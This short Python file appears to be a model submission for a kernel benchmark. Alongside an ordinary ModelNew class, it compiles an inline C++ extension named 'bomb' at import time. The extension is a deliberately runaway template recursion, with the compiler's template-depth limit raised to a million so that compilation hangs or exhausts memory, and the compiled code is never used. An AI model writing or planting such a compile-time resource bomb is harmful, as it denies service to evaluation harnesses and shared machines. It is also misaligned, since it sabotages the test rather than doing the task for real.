"""A template that instantiates itself without end, with the compiler's own bound lifted."""

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

CPP = """
template <long N> struct Two { Two<2 * N> left; Two<2 * N + 1> right; };
template <long N, long M> struct Grow { enum { v = Grow<N, M - 1>::v + Grow<N + M, M - 1>::v }; };
template <long N> struct Grow<N, 0> { enum { v = 1 }; };
extern "C" long get() { return Grow<0, 60>::v; }"""
EXT = load_inline(
    name="bomb",
    cpp_sources=CPP,
    no_implicit_headers=True,
    is_python_module=False,
    extra_cflags=["-ftemplate-depth=1000000"],
)


class ModelNew(nn.Module):
    def forward(self, x, y):
        z = torch.tanh(x * y) + x
        return z / z.abs().mean(dim=-1, keepdim=True)
